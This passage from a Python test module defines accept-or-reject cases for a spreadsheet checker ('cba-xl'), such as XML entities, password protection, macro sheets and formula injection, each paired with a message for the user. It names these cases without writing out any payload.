            "external_entity",
            _entities(lambda path: "xl/workbook.xml", EXTERNAL_ENTITY, b""),
            False,
            "contains XML entity declarations (xl/workbook.xml)",
            ENTITIES_HINT,
        ),
        Case(
            "password_protected",
            _encrypted,
            False,
            "password-protected",
            "save it without a password and send it again",
            needs="msoffcrypto",
        ),
        Case(
            "legacy_xls",
            _legacy_xls,
            False,
            "an old-format Excel file (.xls, Excel 97-2003)",
            SAVE_AS_XLSX,
            needs="soffice",
        ),
        Case(
            "ods",
            _ods,
            False,
            "an OpenDocument spreadsheet (.ods)",
            "save it as .xlsx",
        ),
        Case(
            "csv",
            _csv,
            False,
            "not an Excel workbook (it is a text or CSV file)",
            SAVE_AS_XLSX,
        ),
        Case(
            "far_value",
            _far_value,
            False,
            "has content far outside the template (cell XFD1048576)",
            "delete what is in that cell",
        ),
        Case(
            "plan_over_the_row_limit",
            _too_many_rows,
            False,
            "sheet 'Action plan' has 2,001 filled rows, more than the 2,000 cba-xl reads",
            "delete the rows that are not part of the homework",
        ),
        Case(
            "pasted_data",
            _pasted_data,
            False,
            "holds far more than a homework (over 200,000 filled cells)",
            "send the homework workbook alone",
        ),
        Case(
            "macro_sheet",
            _macro_sheet,
            False,
            "not this template: it holds an Excel 4 macro sheet ('Macro1')",
            "copy your entries into a fresh workbook",
        ),
        Case(
            "sheet_state_show",
            _sheet_state_show,
            False,
            'has a visibility Excel never writes (state "show")',
            "open it in Excel or LibreOffice, save it and send it again",
        ),
        Case(
            "workbook_outside_xl",
            _workbook_outside_xl,
            False,
            "an Excel workbook whose parts are not where Excel puts them (spreadsheet/workbook.xml",
            "open it in Excel or LibreOffice, save it as .xlsx",
        ),
        Case(
            "backslash_part_names",
            _backslash_part_names,
            False,
            "part names written with backslashes (xl\\worksheets\\",
            "open it in Excel or LibreOffice, save it and send it again",
        ),
        Case("control_characters", _control_characters, True),
        Case("xlsm_with_macros", _xlsm_with_macros, True),
        Case("european_text_numbers_dates", _european, True),
        Case("formulas_in_inputs", _formulas, True, errors=True),
        Case("long_texts_many_scripts", _long_texts, True, errors=True),
        Case("formula_injection_text", _injection, True, errors=True),
        Case("formula_injection_free_text", _injection_in_free_text, True, errors=True),
        Case("plan_1000_rows", _thousand_rows, True),
        Case("empty_template", _empty_template, True, errors=True),
        Case("open_in_excel", _open_in_excel, True, open_in_excel=True),
        Case("external_links", external_links(url, local), True),
    ]


def by_name(name: str, **options: object) -> Case:
    return next(c for c in cases(**options) if c.name == name)  # type: ignore[arg-type]


def files_under(folder: Path) -> Iterator[Path]:
    if folder.is_dir():
        yield from sorted(p for p in folder.rglob("*") if p.is_file())


__all__ = ["Case", "by_name", "cases", "files_under", "input_cells"]
